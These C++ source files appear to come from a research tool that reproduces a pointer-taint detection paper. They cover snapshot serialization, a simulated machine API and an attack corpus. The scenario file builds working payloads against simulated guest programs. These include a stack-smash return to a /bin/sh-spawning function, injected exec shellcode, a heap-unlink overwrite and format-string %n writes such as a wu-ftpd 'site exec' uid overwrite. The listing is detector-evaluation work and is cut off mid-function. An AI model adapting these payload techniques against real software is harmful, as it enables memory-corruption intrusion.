void write_os(Writer& w, const os::SimOs& sim) {
  const os::SimOs::Persist p = sim.persist();
  w.u32(static_cast<uint32_t>(p.vfs.files.size()));
  for (const auto& [path, contents] : p.vfs.files) {
    w.str(path);
    w.bytes(contents);
  }
  w.u32(static_cast<uint32_t>(p.vfs.open_files.size()));
  for (const auto& f : p.vfs.open_files) {
    w.str(f.path);
    w.u64(f.pos);
    w.b(f.writable);
    w.b(f.open);
  }
  w.u32(static_cast<uint32_t>(p.net.sessions.size()));
  for (const auto& s : p.net.sessions) {
    w.u32(static_cast<uint32_t>(s.requests.size()));
    for (const auto& chunk : s.requests) w.bytes(chunk);
    w.str(s.transcript);
    w.u64(s.next_chunk);
    w.b(s.accepted);
  }
  w.u64(p.net.next_accept);
  w.u32(static_cast<uint32_t>(p.fds.size()));
  for (const auto& [kind, handle] : p.fds) {
    w.u8(kind);
    w.i32(handle);
  }
  w.bytes(p.stdin_data);
  w.u64(p.stdin_pos);
  w.str(p.stdout_text);
  w.str(p.stderr_text);
  w.u32(static_cast<uint32_t>(p.exec_log.size()));
  for (const std::string& e : p.exec_log) w.str(e);
  w.b(p.taint_inputs);
  w.u32(p.brk);
  w.u32(p.uid);
  w.u64(p.stats.input_bytes_tainted);
  w.u64(p.stats.syscalls);
  w.u64(p.stats.reads);
  w.u64(p.stats.recvs);
}

void read_os(Reader& r, os::SimOs& sim) {
  os::SimOs::Persist p;
  for (uint32_t i = 0, n = r.u32(); r.ok && i < n; ++i) {
    std::string path = r.str();
    p.vfs.files.emplace(std::move(path), r.bytes());
  }
  for (uint32_t i = 0, n = r.u32(); r.ok && i < n; ++i) {
    os::Vfs::Persist::OpenFile f;
    f.path = r.str();
    f.pos = r.u64();
    f.writable = r.b();
    f.open = r.b();
    p.vfs.open_files.push_back(std::move(f));
  }
  for (uint32_t i = 0, n = r.u32(); r.ok && i < n; ++i) {
    os::VirtualNetwork::Persist::Session s;
    for (uint32_t j = 0, m = r.u32(); r.ok && j < m; ++j) {
      s.requests.push_back(r.bytes());
    }
    s.transcript = r.str();
    s.next_chunk = r.u64();
    s.accepted = r.b();
    p.net.sessions.push_back(std::move(s));
  }
  p.net.next_accept = r.u64();
  for (uint32_t i = 0, n = r.u32(); r.ok && i < n; ++i) {
    const uint8_t kind = r.u8();
    p.fds.emplace_back(kind, r.i32());
  }
  p.stdin_data = r.bytes();
  p.stdin_pos = r.u64();
  p.stdout_text = r.str();
  p.stderr_text = r.str();
  for (uint32_t i = 0, n = r.u32(); r.ok && i < n; ++i) {
    p.exec_log.push_back(r.str());
  }
  p.taint_inputs = r.b();
  p.brk = r.u32();
  p.uid = r.u32();
  p.stats.input_bytes_tainted = r.u64();
  p.stats.syscalls = r.u64();
  p.stats.reads = r.u64();
  p.stats.recvs = r.u64();
  if (r.ok) sim.restore_persist(p);
}

}  // namespace

std::optional<StoredSnapshot> dehydrate_snapshot(MachineSnapshot& snapshot,
                                                 mem::PageStore& store) {
  if (snapshot.pipeline) return std::nullopt;
  StoredSnapshot stored;
  stored.pages = mem::intern_memory(store, snapshot.memory);
  Writer w;
  w.u32(kMetaMagic);
  w.u32(kMetaVersion);
  write_program(w, snapshot.program);
  write_cpu(w, snapshot.cpu);
  write_os(w, snapshot.os);
  stored.meta = std::move(w.out);
  return stored;
}

std::optional<MachineSnapshot> hydrate_snapshot(const StoredSnapshot& stored,
                                                mem::PageStore& store) {
  Reader r{stored.meta.data(), stored.meta.data() + stored.meta.size()};
  if (r.u32() != kMetaMagic || r.u32() != kMetaVersion) return std::nullopt;
  MachineSnapshot snapshot;
  snapshot.program = read_program(r);
  snapshot.cpu = read_cpu(r);
  read_os(r, snapshot.os);
  if (!r.ok) return std::nullopt;
  if (!mem::adopt_memory(store, snapshot.memory, stored.pages)) {
    return std::nullopt;
  }
  return snapshot;
}

std::vector<uint8_t> encode_stored_snapshot(const std::string& key,
                                            const StoredSnapshot& stored) {
  Writer w;
  w.u32(kMetaMagic);
  w.u32(kMetaVersion);
  w.str(key);
  w.u32(static_cast<uint32_t>(stored.pages.size()));
  for (const auto& [idx, page_key] : stored.pages) {
    w.u32(idx);
    w.u64(page_key.hash);
    w.u32(page_key.slot);
  }
  w.bytes(stored.meta);
  return w.out;
}

std::optional<std::pair<std::string, StoredSnapshot>> decode_stored_snapshot(
    const std::vector<uint8_t>& blob) {
  Reader r{blob.data(), blob.data() + blob.size()};
  if (r.u32() != kMetaMagic || r.u32() != kMetaVersion) return std::nullopt;
  std::string key = r.str();
  StoredSnapshot stored;
  for (uint32_t i = 0, n = r.u32(); r.ok && i < n; ++i) {
    const uint32_t idx = r.u32();
    mem::PageStore::Key page_key;
    page_key.hash = r.u64();
    page_key.slot = r.u32();
    stored.pages.emplace_back(idx, page_key);
  }
  stored.meta = r.bytes();
  if (!r.ok) return std::nullopt;
  return std::make_pair(std::move(key), std::move(stored));
}

}  // namespace ptaint::core
