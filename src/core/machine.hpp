// Machine — the top-level public API of the library.
//
// A Machine bundles the tainted memory, the CPU with its taint policy, the
// simulated OS (VFS, virtual network, taint boundary) and the program
// loader.  Typical use:
//
//   ptaint::core::MachineConfig cfg;                 // paper defaults
//   ptaint::core::Machine m(cfg);
//   m.load_source(my_assembly);
//   m.os().set_stdin("aaaaaaaaaaaaaaaaaaaaaaaa\n");
//   ptaint::core::RunReport r = m.run();
//   if (r.detected()) std::cout << r.alert->to_string() << "\n";
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "asmgen/assembler.hpp"
#include "cpu/cpu.hpp"
#include "cpu/pipeline.hpp"
#include "mem/tainted_memory.hpp"
#include "os/syscalls.hpp"
#include "trace/profiler.hpp"
#include "trace/tracer.hpp"

namespace ptaint::core {

struct MachineConfig {
  cpu::TaintPolicy policy;           // paper defaults
  bool pipeline_model = false;       // enable the cycle/cache timing model
  cpu::PipelineConfig pipeline;
  uint64_t max_instructions = 200'000'000;
  std::vector<std::string> argv;     // guest command line
  std::vector<std::string> env;      // guest environment ("K=V")
  bool taint_argv = true;            // argv/env bytes are external input

  /// Runs the static pointer-taintedness analyzer (src/analysis) over the
  /// loaded program and installs its check-elision bitmap: dereference
  /// sites statically proven clean under `policy` skip the dynamic
  /// detector.  Detection verdicts are unchanged by construction (see
  /// docs/ANALYSIS.md); the interpreter just does less work.  Re-applied
  /// automatically on load_* and restore().
  bool static_elision = false;

  /// Execution engine driving the core.  Unset resolves through the
  /// PTAINT_ENGINE environment variable ("step" / "superblock") and then
  /// defaults to the superblock engine (DESIGN.md §9).  Both engines are
  /// verdict- and statistics-identical; "step" pins the reference
  /// interpreter (CI runs the whole suite that way so it can never rot).
  std::optional<cpu::Engine> engine;

  /// Debugging escape hatch for the copy-on-write snapshot machinery
  /// (DESIGN.md §10): force full deep-copy snapshot/restore, exactly the
  /// pre-COW semantics.  Also settable via the PTAINT_NO_COW environment
  /// variable (any value other than empty or "0"); either source wins.
  bool no_cow = false;

  /// §5.3-style escape hatch for the address-leak direction: names of
  /// guest functions that legitimately publish pointers (a %p debug
  /// printer, a handle-shipping protocol).  Kernel-output leak checks at
  /// sites inside these functions are suppressed, and the leak-site prover
  /// treats them as explained.  Resolved against the loaded program's
  /// function labels; load_* throws std::out_of_range for unknown names
  /// (mirroring protect_symbol).  Active with or without static_elision.
  std::vector<std::string> may_publish;

  /// Stack ASLR baseline (paper §2 related work): the initial stack
  /// pointer is lowered by a seed-derived, word-aligned offset drawn from
  /// `aslr_entropy_bits` bits of entropy.  0 disables randomization.
  /// Models the low-entropy limitation the paper cites (16-20 bits on
  /// 32-bit systems, brute-forceable) — see bench_baseline_aslr.
  int aslr_entropy_bits = 0;
  uint32_t aslr_seed = 0;
};

/// Everything a run produced.
struct RunReport {
  cpu::StopReason stop = cpu::StopReason::kRunning;
  int exit_status = 0;
  std::optional<cpu::SecurityAlert> alert;
  std::string alert_function;  // guest function containing the alert PC
  std::string fault;           // message when stop == kFault
  std::string stdout_text;
  std::string stderr_text;
  std::vector<std::string> net_transcripts;  // per client session, in order
  cpu::CpuStats cpu_stats;
  cpu::TaintUnit::Stats taint_stats;
  os::OsStats os_stats;
  std::optional<cpu::PipelineStats> pipeline_stats;
  uint64_t tainted_memory_bytes = 0;  // tainted bytes at stop
  std::string trace_tail;  // recent disassembly, when tracing is enabled

  /// True when the pointer-taintedness detector terminated the program.
  bool detected() const { return stop == cpu::StopReason::kSecurityAlert; }
  bool exited_cleanly() const {
    return stop == cpu::StopReason::kExit && exit_status == 0;
  }

  /// Alert line in the paper's transcript format plus the guest function,
  /// e.g. "44d7b0: sw $21,0($3)  $3=0x1002bc20  [in vfprintf]".
  std::string alert_line() const;
};

/// A deterministic copy of everything a run can observe or mutate:
/// the tainted memory image, register file + taint bits, CPU bookkeeping
/// (stop state, alert, stats, annotations), the whole simulated OS (VFS
/// contents and open files, network sessions, fd table, captured output,
/// brk/uid), and the pipeline timing state when enabled.
///
/// Snapshots are value objects: copyable, independent of the machine they
/// came from, and restorable into any Machine (typically one constructed
/// with the same program-independent config).  The campaign engine boots a
/// guest once to a post-init point, snapshots, and forks one restored
/// Machine per payload instead of re-assembling per run.
///
/// The detection policy is *not* part of the snapshot — it belongs to the
/// restoring machine's config.  Taint bits in memory and registers are
/// data, so a pre-run (or pre-divergence) snapshot can be forked across
/// policy variants; each fork then propagates and detects under its own
/// policy exactly as a from-scratch serial run would.
///
/// The memory image is shared copy-on-write (DESIGN.md §10): taking a
/// snapshot and restoring one cost O(mapped pages) pointer copies, a
/// machine restored *again* from the same snapshot pays only for the pages
/// it dirtied, and N forked machines share one immutable page set.
/// Observable behaviour is identical to a deep copy; PTAINT_NO_COW=1 (or
/// MachineConfig::no_cow) forces actual deep copies for debugging.
struct MachineSnapshot {
  asmgen::Program program;
  mem::TaintedMemory memory;
  cpu::Cpu::State cpu;
  os::SimOs os;
  std::optional<cpu::Pipeline> pipeline;  // config + timing state
};

class Machine {
 public:
  explicit Machine(MachineConfig config = {});
  ~Machine();

  Machine(const Machine&) = delete;
  Machine& operator=(const Machine&) = delete;

  /// Assembles and loads; throws asmgen::AssemblyError on bad input.
  void load_source(std::string_view source, std::string name = "<input>");
  void load_sources(const std::vector<asmgen::Source>& sources);
  void load_program(asmgen::Program program);

  /// Keeps a ring of the last `capacity` retired instructions; the report's
  /// trace_tail then shows the path into an alert.
  void enable_trace(size_t capacity = 64);
  const trace::Tracer* tracer() const { return tracer_.get(); }

  /// Attributes every retired instruction to its guest function
  /// (sim-profile style).  Call after load_*.
  void enable_profile();
  const trace::Profiler* profiler() const { return profiler_.get(); }

  os::SimOs& os() { return *os_; }
  cpu::Cpu& cpu() { return *cpu_; }
  mem::TaintedMemory& memory() { return memory_; }
  const asmgen::Program& program() const { return program_; }
  const MachineConfig& config() const { return config_; }
  cpu::Pipeline* pipeline() { return pipeline_.get(); }

  /// §5.3 extension: marks the data-segment symbol (of `len` bytes) as
  /// never-tainted; a tainted write into it raises an annotation alert.
  /// Call after load_*; throws std::out_of_range for unknown symbols.
  void protect_symbol(const std::string& symbol, uint32_t len);

  /// Captures the complete machine state (see MachineSnapshot).  Legal at
  /// any point: after load, mid-run (via run_for driving), or at stop.
  /// Non-const: besides sharing its pages into the snapshot, the machine
  /// rebases its delta tracking onto it, so restoring this machine from
  /// the snapshot it just took is already a delta restore.
  MachineSnapshot snapshot();

  /// Restores a snapshot into this machine, replacing program, memory, CPU,
  /// OS and pipeline state; the machine's own config (policy, instruction
  /// budget) is kept.  Tracer/profiler windows are cleared so a restored
  /// run reports exactly like the original.  A machine restored from a
  /// snapshot of machine M behaves byte-identically to M continuing from
  /// the snapshot point.
  ///
  /// Restoring from the snapshot this machine was last restored from is a
  /// delta restore: only the pages the machine dirtied are dropped back to
  /// the shared blocks, registers/CPU/taint-unit/OS state are reset, and
  /// decode caches plus superblock translations survive except on the
  /// truly-changed pages (self-modifying code) — O(dirty set), the
  /// campaign executor's machine-reuse fast path.
  void restore(const MachineSnapshot& snapshot);

  /// Runs until exit/alert/fault or the instruction budget is exhausted.
  RunReport run();

  /// Runs at most `n` more instructions (incremental driving).
  cpu::StopReason run_for(uint64_t n);

  /// Builds the report for the current state (after run_for driving).
  RunReport report() const;

  /// The stack displacement applied by the ASLR baseline for this config.
  uint32_t aslr_offset() const;

  /// Turns on config.static_elision and applies it to the loaded program
  /// immediately.  Returns the number of dereference checks elided.
  size_t enable_static_elision();

 private:
  void setup_argv();
  void install_retire_hook();
  size_t apply_static_elision();
  /// Resolves config_.may_publish against the loaded program and installs
  /// the waiver ranges on the core.  `strict` (the load path) throws for
  /// unknown names; the restore path skips them — a restored snapshot may
  /// carry a different program.
  void apply_may_publish(bool strict);

  MachineConfig config_;
  bool no_cow_ = false;  // resolved once from config + PTAINT_NO_COW
  mem::TaintedMemory memory_;
  std::unique_ptr<os::SimOs> os_;
  std::unique_ptr<cpu::Cpu> cpu_;
  std::unique_ptr<cpu::Pipeline> pipeline_;
  std::unique_ptr<trace::Tracer> tracer_;
  std::unique_ptr<trace::Profiler> profiler_;
  asmgen::Program program_;
};

}  // namespace ptaint::core
