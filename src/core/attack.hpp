// Attack corpus: every attack of the paper's evaluation, plus matching
// benign inputs, packaged so the same scenario can run under any detection
// mode (paper / control-data-only baseline / unprotected).
#pragma once

#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "core/machine.hpp"

namespace ptaint::core {

enum class AttackId {
  kExp1Stack,           // Fig. 2 stack smash (return-to-existing-code)
  kExp1Shellcode,       // Fig. 2 stack smash with injected shellcode
  kExp2Heap,            // Fig. 2 heap corruption
  kExp3Format,          // Fig. 2 format string
  kWuFtpdFormat,        // Table 2 non-control-data (uid overwrite)
  kNullHttpdHeap,       // non-control-data (CGI root overwrite)
  kGhttpdStack,         // non-control-data (URL pointer redirect)
  kTracerouteDoubleFree,
  kGlobExpansion,       // LibC glob() tilde-expansion heap overflow
  kFnIntOverflow,       // Table 4(A): known false negative
  kFnAuthFlag,          // Table 4(B): known false negative
  kFnFormatLeak,        // Table 4(C): known false negative
  // Address-leak -> precise-overwrite scenarios (the inverse taint
  // direction).  Under the paper policy the overwrite is compare-validated
  // and lands silently (like the Table 4 trio); with
  // TaintPolicy::leak_detection on, the disclosure itself is the alert.
  kLeakTelemetry,       // raw stack pointer shipped as debug telemetry
  kLeakSession,         // heap pointer recycled as a session token
  kLeakBanner,          // %x format leak of a spilled stack pointer
};

/// What a scenario run ended as.
enum class Outcome {
  kDetected,     // security alert terminated the program
  kCompromised,  // attack achieved its goal (integrity/priv/exec)
  kCrashed,      // program faulted without achieving the goal
  kBenign,       // ran to completion with no compromise
};

struct ScenarioResult {
  Outcome outcome{};
  RunReport report;
  std::string detail;  // e.g. the alert line or the compromise evidence
};

/// One attack scenario: how to build the machine (program + inputs) and how
/// to judge what happened.
class Scenario {
 public:
  virtual ~Scenario() = default;
  virtual AttackId id() const = 0;
  virtual std::string name() const = 0;
  /// Category label used by the Figure 1 classification.
  virtual std::string category() const = 0;
  /// True when the attack corrupts control data (ret addr / code pointer).
  virtual bool corrupts_control_data() const = 0;
  /// True when the paper expects the pointer-taint detector to catch it.
  virtual bool expected_detected() const = 0;

  /// Instruction budget a full run of this scenario needs.
  virtual uint64_t max_instructions() const = 0;

  // --- prepare / classify split -------------------------------------------
  // The campaign engine drives scenarios in two halves: prepare_* builds and
  // arms a machine (assemble, load, install stdin/VFS/network payloads)
  // without running it — the state a post-boot snapshot captures — and
  // classify_* judges a finished run.  The serial wrappers below compose
  // them, so a campaign job that forks a prepared snapshot and classifies
  // the result is verdict-identical to a serial run.

  /// Builds and arms the attack machine under `policy`; does not run it.
  virtual std::unique_ptr<Machine> prepare_attack(
      const cpu::TaintPolicy& policy) const = 0;
  /// Builds and arms the benign-workload machine (full paper policy).
  virtual std::unique_ptr<Machine> prepare_benign() const = 0;
  /// Judges a finished attack run (from prepare_attack or a restored fork).
  virtual ScenarioResult classify_attack(Machine& machine,
                                         RunReport report) const = 0;
  /// Judges a finished benign run.
  virtual ScenarioResult classify_benign(Machine& machine,
                                         RunReport report) const = 0;

  /// Runs the attack under the paper policy with the given mode.
  ScenarioResult run_attack(cpu::DetectionMode mode) const {
    cpu::TaintPolicy policy;
    policy.mode = mode;
    return run_attack_with(policy);
  }
  /// Runs the attack under an arbitrary taint policy (ablations).
  ScenarioResult run_attack_with(const cpu::TaintPolicy& policy) const {
    auto machine = prepare_attack(policy);
    RunReport report = machine->run();
    return classify_attack(*machine, std::move(report));
  }
  /// Runs the matching benign workload under the full paper policy; the
  /// result must be Outcome::kBenign (no false positive).
  ScenarioResult run_benign() const {
    auto machine = prepare_benign();
    RunReport report = machine->run();
    return classify_benign(*machine, std::move(report));
  }
};

/// The full corpus in a stable order.
std::vector<std::unique_ptr<Scenario>> make_attack_corpus();

/// Lookup by id (builds the single scenario).
std::unique_ptr<Scenario> make_scenario(AttackId id);

const char* to_string(Outcome outcome);
const char* to_string(cpu::DetectionMode mode);

}  // namespace ptaint::core
