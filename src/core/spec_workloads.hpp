// SPEC 2000 INT surrogate workload harness (paper Table 3).
//
// Six benign programs with deterministic generated inputs.  Every input
// byte enters the guest tainted (through SYS_READ); the false-positive
// claim is that none of them ever trips the pointer-taintedness detector.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "core/machine.hpp"

namespace ptaint::core {

struct SpecWorkload {
  std::string name;        // paper benchmark name (BZIP2, GCC, ...)
  asmgen::Source app;
  std::string input;       // contents of the guest's /input file
  std::string expect_stdout_prefix;  // sanity check on the result line
};

/// Builds all six workloads; `scale` multiplies the input sizes
/// (1 = test-sized, larger for the bench run).
std::vector<SpecWorkload> make_spec_workloads(int scale = 1);

struct SpecRunRow {
  std::string name;
  uint64_t program_bytes = 0;   // text+data image size
  uint64_t input_bytes = 0;
  uint64_t instructions = 0;
  uint64_t tainted_loads = 0;
  bool alert = false;
  bool ok = false;              // clean exit and plausible output
  std::string output;
};

/// Runs one workload under the given policy and reports the Table 3 row.
SpecRunRow run_spec_workload(const SpecWorkload& workload,
                             const cpu::TaintPolicy& policy = {});

/// Prepare/classify split for the campaign engine: prepare assembles, loads
/// and installs the /input file without running; classify builds the row
/// from a finished run (of the prepared machine or a restored fork of it).
/// prepare + run + classify is exactly run_spec_workload.
std::unique_ptr<Machine> prepare_spec_workload(
    const SpecWorkload& workload, const cpu::TaintPolicy& policy = {});
SpecRunRow classify_spec_run(const SpecWorkload& workload, Machine& machine,
                             const RunReport& report);

}  // namespace ptaint::core
