#include "core/attack.hpp"

#include <cassert>
#include <stdexcept>
#include <cstdio>
#include <functional>

#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"

namespace ptaint::core {
namespace {

using guest::link_with_runtime;
namespace apps = guest::apps;

std::string hex32(uint32_t v) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "0x%x", v);
  return buf;
}

/// Little-endian 4 raw bytes of a word, for splicing addresses into
/// attack payloads.
std::string le_bytes(uint32_t v) {
  std::string out(4, '\0');
  for (int i = 0; i < 4; ++i) out[i] = static_cast<char>(v >> (8 * i));
  return out;
}

bool contains_whitespace(const std::string& s) {
  for (char c : s) {
    if (c == ' ' || c == '\n' || c == '\t' || c == '\r') return true;
  }
  return false;
}

struct ScenarioSpec {
  AttackId id;
  std::string name;
  std::string category;
  bool control_data = false;
  bool expected_detected = true;
  asmgen::Source app;
  uint64_t max_instructions = 50'000'000;
  std::vector<std::string> attack_argv;  // guest argv for the attack run
  std::vector<std::string> benign_argv;
  // Installs attack inputs (stdin / argv / network sessions).  Receives the
  // assembled program so payloads can splice symbol addresses.
  std::function<void(Machine&, const asmgen::Program&)> arm_attack;
  // Installs the benign workload.
  std::function<void(Machine&, const asmgen::Program&)> arm_benign;
  // Evidence that the attack achieved its goal (run with detection off or
  // when the detector misses).  Returns a description, or nullopt.
  std::function<std::optional<std::string>(Machine&, const RunReport&)>
      evidence;
};

class SpecScenario : public Scenario {
 public:
  explicit SpecScenario(ScenarioSpec spec) : spec_(std::move(spec)) {}

  AttackId id() const override { return spec_.id; }
  std::string name() const override { return spec_.name; }
  std::string category() const override { return spec_.category; }
  bool corrupts_control_data() const override { return spec_.control_data; }
  bool expected_detected() const override { return spec_.expected_detected; }

  uint64_t max_instructions() const override { return spec_.max_instructions; }

  std::unique_ptr<Machine> prepare_attack(
      const cpu::TaintPolicy& policy) const override {
    MachineConfig cfg;
    cfg.policy = policy;
    cfg.max_instructions = spec_.max_instructions;
    cfg.argv = spec_.attack_argv;
    auto m = std::make_unique<Machine>(cfg);
    m->load_sources(link_with_runtime(spec_.app));
    spec_.arm_attack(*m, m->program());
    return m;
  }

  std::unique_ptr<Machine> prepare_benign() const override {
    MachineConfig cfg;  // full paper policy
    cfg.max_instructions = spec_.max_instructions;
    cfg.argv = spec_.benign_argv;
    auto m = std::make_unique<Machine>(cfg);
    m->load_sources(link_with_runtime(spec_.app));
    spec_.arm_benign(*m, m->program());
    return m;
  }

  ScenarioResult classify_attack(Machine& m, RunReport report) const override {
    ScenarioResult result;
    result.report = std::move(report);
    auto evidence = spec_.evidence(m, result.report);
    if (result.report.detected()) {
      result.outcome = Outcome::kDetected;
      result.detail = result.report.alert_line();
    } else if (evidence) {
      result.outcome = Outcome::kCompromised;
      result.detail = *evidence;
    } else if (result.report.stop == cpu::StopReason::kFault ||
               result.report.stop == cpu::StopReason::kInstLimit) {
      result.outcome = Outcome::kCrashed;
      result.detail = result.report.fault;
    } else {
      result.outcome = Outcome::kBenign;
      result.detail = "attack had no observable effect";
    }
    return result;
  }

  ScenarioResult classify_benign(Machine& m, RunReport report) const override {
    ScenarioResult result;
    result.report = std::move(report);
    auto evidence = spec_.evidence(m, result.report);
    if (result.report.detected()) {
      result.outcome = Outcome::kDetected;  // would be a false positive
      result.detail = result.report.alert_line();
    } else if (evidence) {
      result.outcome = Outcome::kCompromised;
      result.detail = *evidence;
    } else if (result.report.stop == cpu::StopReason::kExit) {
      result.outcome = Outcome::kBenign;
    } else {
      result.outcome = Outcome::kCrashed;
      result.detail = result.report.fault;
    }
    return result;
  }

 private:
  ScenarioSpec spec_;
};

// ---- scenario definitions ----

std::unique_ptr<Scenario> exp1_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kExp1Stack;
  s.name = "exp1-stack-smash";
  s.category = "buffer overflow";
  s.control_data = true;
  // The Figure 2 program plus a privileged function the weaponized payload
  // returns into (return-to-existing-code; the classic alternative is
  // injected shellcode, which our writable-stack simulator would also run).
  //
  // scanf("%s") cannot deliver whitespace bytes, so the payload address of
  // `grant` must avoid 0x09/0x0a/0x0d/0x20 — pad with nops until it does,
  // the same constraint-solving a real exploit performs on its payload.
  const char* kGrantCode = R"(
grant:
    addiu $sp, $sp, -24
    sw $ra, 20($sp)
    la $a0, shell_path
    jal exec
    li $a0, 0
    jal exit
    .data
shell_path: .asciiz "/bin/sh"
)";
  for (int pad = 0;; ++pad) {
    std::string text = apps::exp1_stack().text + "\n.text\n";
    for (int i = 0; i < pad; ++i) text += "    nop\n";
    text += kGrantCode;
    asmgen::Source candidate{"exp1.s", text};
    auto prog = asmgen::assemble(link_with_runtime(candidate));
    if (!contains_whitespace(le_bytes(prog.symbols.at("grant")))) {
      s.app = std::move(candidate);
      break;
    }
    if (pad > 128) {  // byte1 escapes any whitespace value within 256B
      s.app = std::move(candidate);
      break;
    }
  }
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // 20 filler bytes reach the saved return address at buf+20.
    std::string payload(20, 'a');
    payload += le_bytes(prog.symbols.at("grant"));
    m.os().set_stdin(payload);
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("hi");
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    for (const auto& path : m.os().exec_log()) {
      if (path == "/bin/sh") return "return address hijacked; spawned /bin/sh";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

/// Machine code + data for a classic exec("/bin/sh") shellcode placed at
/// `code_addr`.  All bytes are whitespace-free so scanf("%s") delivers
/// them intact.
std::string build_shellcode(uint32_t code_addr) {
  using isa::Instruction;
  using isa::Op;
  std::vector<Instruction> code;
  auto imm = [](Op op, uint8_t rt, uint8_t rs, int32_t v) {
    Instruction i;
    i.op = op;
    i.rt = rt;
    i.rs = rs;
    i.imm = v;
    return i;
  };
  const uint32_t str_addr = code_addr + 7 * 4;  // "/bin/sh" after the code
  code.push_back(imm(Op::kLui, isa::kA0, 0, static_cast<int32_t>(str_addr >> 16)));
  code.push_back(imm(Op::kOri, isa::kA0, isa::kA0,
                     static_cast<int32_t>(str_addr & 0xffff)));
  code.push_back(imm(Op::kAddiu, isa::kV0, isa::kZero, 59));  // SYS_EXEC
  code.push_back({.op = Op::kSyscall});
  code.push_back(imm(Op::kAddiu, isa::kA0, isa::kZero, 0));
  code.push_back(imm(Op::kAddiu, isa::kV0, isa::kZero, 1));   // SYS_EXIT
  code.push_back({.op = Op::kSyscall});

  std::string bytes;
  for (const auto& inst : code) bytes += le_bytes(isa::encode(inst));
  bytes += "/bin/sh";
  bytes.push_back('\0');
  return bytes;
}

std::unique_ptr<Scenario> exp1_shellcode_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kExp1Shellcode;
  s.name = "exp1-injected-shellcode";
  s.category = "buffer overflow";
  s.control_data = true;
  s.app = apps::exp1_stack();
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    // exp1's frame is fixed: main (24 bytes) then exp1 (40), so exp1's sp
    // is kStackTop-64, buf sits at sp+16 and the saved return address 20
    // bytes into the payload.  The shellcode follows the overwritten slot.
    const uint32_t exp1_sp = isa::layout::kStackTop - 64;
    const uint32_t buf = exp1_sp + 16;
    const uint32_t code_addr = buf + 24;
    std::string payload(20, 'a');
    payload += le_bytes(code_addr);  // saved $ra -> the stack itself
    payload += build_shellcode(code_addr);
    if (contains_whitespace(payload)) {
      throw std::runtime_error("shellcode payload contains whitespace");
    }
    m.os().set_stdin(payload);
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("hello");
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    for (const auto& path : m.os().exec_log()) {
      if (path == "/bin/sh") {
        return "injected stack shellcode executed /bin/sh";
      }
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> exp2_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kExp2Heap;
  s.name = "exp2-heap-corruption";
  s.category = "heap corruption";
  s.control_data = false;
  // Add an attack target: a mode flag the unlink's mirrored write flips.
  s.app = {"exp2.s", std::string(apps::exp2_heap().text) + R"(
    .data
    .align 2
admin_mode: .word 0
)"};
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // Craft the next chunk's header and links: unlink writes
    //   *(fd+8) = bk  and  *(bk+4) = fd.
    // fd = &admin_mode - 8 redirects the first write onto admin_mode.
    const uint32_t target = prog.symbols.at("admin_mode");
    std::string payload(12, 'a');            // fill payload + padding
    payload += le_bytes(0x100);              // plausible free-chunk size
    payload += le_bytes(target - 8);         // fd
    payload += le_bytes(0x42424240);         // bk: value written to target
                                             // (aligned so the mirrored
                                             // *(bk+4)=fd write lands too)
    m.os().set_stdin(payload);
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().set_stdin("ok");
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    const uint32_t target = m.program().symbols.at("admin_mode");
    const uint32_t value = m.memory().load_word(target).value;
    if (value != 0) {
      return "heap unlink wrote " + hex32(value) + " over admin_mode";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> exp3_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kExp3Format;
  s.name = "exp3-format-string";
  s.category = "format string";
  s.control_data = false;
  s.app = apps::exp3_format();
  // The paper's demo string is abcd%x%x%x%n (target 0x64636261); the
  // weaponized variant uses a word-aligned target so the store actually
  // lands when no detector stops it (an unaligned %n target traps instead).
  s.arm_attack = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({le_bytes(0x64636360) + "%x%x%x%n"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"hello from client"});
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    const uint32_t value = m.memory().load_word(0x64636360).value;
    if (value != 0) {
      return "%n wrote " + hex32(value) + " to 0x64636360";
    }
    return std::nullopt;
  };
  return std::make_unique<SpecScenario>(std::move(s));
}

std::unique_ptr<Scenario> wuftpd_scenario() {
  ScenarioSpec s;
  s.id = AttackId::kWuFtpdFormat;
  s.name = "wu-ftpd-site-exec";
  s.category = "format string";
  s.control_data = false;
  s.app = apps::wu_ftpd();
  s.arm_attack = [](Machine& m, const asmgen::Program& prog) {
    // Table 2: site exec \x20\xbc\x02\x10%x%x%x%x%x%x%n — the raw bytes are
    // the address of the logged-in user's uid word (0x1002bc20).
    const uint32_t uid_addr = prog.symbols.at("login_uid");
    std::string cmd = "site exec " + le_bytes(uid_addr) + "%x%x%x%x%x%x%n";
    m.os().net().add_session(
        {"user user1\r\n", "pass xxxxxxx\r\n", cmd + "\r\n", "quit\r\n"});
  };
  s.arm_benign = [](Machine& m, const asmgen::Program&) {
    m.os().net().add_session({"user user1\r\n", "pass xxxxxxx\r\n",
                              "site exec hello %d %d\r\n", "quit\r\n"});
  };
  s.evidence = [](Machine& m, const RunReport&) -> std::optional<std::string> {
    const uint32_t uid_addr = m.program().symbols.at("login_uid");
    const auto uid = m.memory().load_word(uid_addr);
    if (uid.value != 1000 && uid.value != static_cast<uint32_t>(-1)) {
